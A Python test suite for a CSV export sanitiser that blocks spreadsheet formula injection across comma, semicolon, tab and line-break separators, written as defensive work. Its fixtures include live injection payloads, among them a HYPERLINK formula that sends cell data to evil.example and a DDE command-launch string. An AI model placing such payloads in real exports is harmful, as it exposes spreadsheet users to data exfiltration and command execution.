"""CSV cells (service/downloads.spreadsheet_safe) that no spreadsheet reads as a formula, whatever
separator it splits a line on: its locale's list separator (`,`, or `;` where the decimal mark is a
comma), a tab, and line breaks. A spreadsheet honours the CSV's quotes only where one of *its*
cells starts with one, so a `;` inside one of our cells (which the writer leaves unquoted: it has
no comma) starts a new cell there. The readers here are Python's csv reader with each separator,
which treats quotes the same way (a quote inside an unquoted field is a character), and one that
takes no quotes at all."""
from __future__ import annotations

import csv
import io
import re
import unicodedata

import pytest

from service.downloads import FORMULA_STARTS, spreadsheet_safe

SEPARATORS = (",", ";", "\t")

# A cell that opens as a formula where a spreadsheet splits at the separator inside it.
BEHIND_A_SEPARATOR = [
    "x;=1+1", "a,=1+1", "a\t=1+1", "name;@SUM(A1:A9)", "x; -2+3", "x;\"=1+1\"", "x;\u200b=1+1",
    "x;\uff1d1+1", "Zhang;\t+1", "ok\n=HYPERLINK(\"https://evil.example/?\"&A2,\"open\")", "ok\r\n@cmd",
    "a;b;=cmd|' /C calc'!A0", "\t\t\t-1", "x;\";=1+1",
]
# A cell that is a formula at its start (after blanks, line breaks, invisible characters or a quote).
AT_THE_START = ["=1+1", "\n=HYPERLINK(\"x\")", " =1+1", "\u00a0@SUM(A1)", "\u200b=1", "\uff1d1+1", "\t -2+3",
                "\"=1+1", "\" =1+1\"", "-5"]
HONEST = ["Zhang San", "李四", "O'Brien", "Ann-Marie", "x = 1", "a;b;c", "off by one, in the last row", "3.5",
          "2026-12-05T13:00:00Z", "0-2", "mean; then the variance", "", "行和；均值"]


def reads_as_formula(cell: str) -> bool:
    first = next((c for c in cell if not (c.isspace() or c == '"' or unicodedata.category(c) in ("Cc", "Cf"))), "")
    return first in FORMULA_STARTS


def formula_cells(text: str) -> list[tuple[str, str]]:
    """(separator, cell) for every cell that a spreadsheet splitting `text` at that separator reads
    as a formula; separator "none": one that takes no quotes at all (LibreOffice's import with an
    empty string delimiter), splitting at every separator and line break."""
    found = [(separator, cell) for separator in SEPARATORS
             for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator)
             for cell in row if reads_as_formula(cell)]
    return found + [("none", cell) for cell in re.split(r"[,;\t\r\n]", text) if reads_as_formula(cell)]


def exported(cells: list[object]) -> str:
    """One line as the exports write it: csv.writer's defaults, every cell through spreadsheet_safe."""
    out = io.StringIO()
    csv.writer(out).writerow(["id", *(spreadsheet_safe(c) for c in cells), "tail"])
    return out.getvalue()


def raw(cells: list[object]) -> str:
    out = io.StringIO()
    csv.writer(out).writerow(["id", *cells, "tail"])
    return out.getvalue()


@pytest.mark.parametrize("cell", BEHIND_A_SEPARATOR + AT_THE_START)
def test_no_separator_makes_a_formula_of_a_cell(cell):
    assert formula_cells(raw([cell])), f"{cell!r} written as it is opens as a formula in some locale"
    assert formula_cells(exported([cell])) == [], f"{cell!r} as exported: {exported([cell])!r}"


def test_the_separator_cases_keep_their_words_with_a_quote_where_a_cell_could_start():
    assert spreadsheet_safe("x;=1+1") == "x;'=1+1"
    assert spreadsheet_safe("a,=1+1") == "a,'=1+1"
    assert spreadsheet_safe("a\t=1+1") == "a\t'=1+1"
    assert spreadsheet_safe('x;"=1+1"') == "x;'\"=1+1\""
    assert spreadsheet_safe('"=1+1') == "'\"=1+1"
    assert spreadsheet_safe("ok\n=1") == "ok\n'=1"
    assert spreadsheet_safe("=1+1") == "'=1+1"
    for cell in BEHIND_A_SEPARATOR + AT_THE_START:  # nothing is taken away: only quotes put in
        safe = spreadsheet_safe(cell)
        assert safe.replace("'", "") == cell.replace("'", "") and len(safe) > len(cell)


def test_honest_cells_are_unchanged():
    assert [spreadsheet_safe(c) for c in HONEST] == HONEST
    assert [spreadsheet_safe(v) for v in (None, 3, 7.5, 0.0)] == ["", "3", "7.5", "0.0"]
    assert formula_cells(exported(HONEST)) == []


def test_every_cell_of_a_row_together():
    """Cells side by side (a separator at the end of one, a formula at the start of the next)."""
    cells = ["x;", "=1+1", "a\t", "\"", "y;\"", "@A1", *BEHIND_A_SEPARATOR]
    assert formula_cells(exported(cells)) == []


def test_a_long_cell_of_separators_costs_its_length():
    """One pass over the cell: a TA reason of many tabs or line breaks before a formula."""
    cell = "\t" * 200_000 + "=1"
    safe = spreadsheet_safe(cell)
    assert safe.count("'") == 200_001 and safe.endswith("'=1")
